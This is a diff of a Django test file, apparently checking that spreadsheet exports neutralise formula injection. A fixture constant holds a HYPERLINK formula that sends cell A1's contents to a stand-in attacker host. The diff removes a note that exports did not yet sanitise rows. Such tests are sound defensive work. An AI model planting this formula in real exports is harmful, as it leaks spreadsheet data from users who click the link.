@@ -16,7 +16,6 @@ from hoso.org.models import Staff, Student, Unit, UnitKind
 
 pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
-NOT_YET = "export does not use hoso.core.xlsx.safe_row yet (told the lead); remove when fixed"
 
 
 def _poison() -> None:
